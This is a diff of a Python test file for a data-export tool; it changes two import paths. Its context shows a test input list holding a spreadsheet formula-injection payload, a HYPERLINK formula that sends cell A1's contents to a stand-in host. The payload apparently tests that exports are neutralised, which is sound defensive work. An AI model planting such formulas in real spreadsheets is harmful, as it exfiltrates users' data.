@@ -18,14 +18,14 @@ from hypothesis import strategies as st
 from pyarrow import parquet
 
 import dictionaries
-from lampiran.cli import main
+from lampiran.app.cli import main
 from lampiran.errors import MissingRequirement, UsageError
 from load import Database
 from load.export import WORKBOOK_VIEWS, export, guarded, plain, read_csv
 from load.export_xlsx import CELL_LETTERS, CUT, write_workbook
 from load.viewing import ORDER, column_of, read_view, snapshot
 from load.views import VIEWS
-from tests import databases, loading
+from tests.support import databases, loading
 
 NASTY = (
     '=HYPERLINK("http://x.example/?"&A1,"klik")',
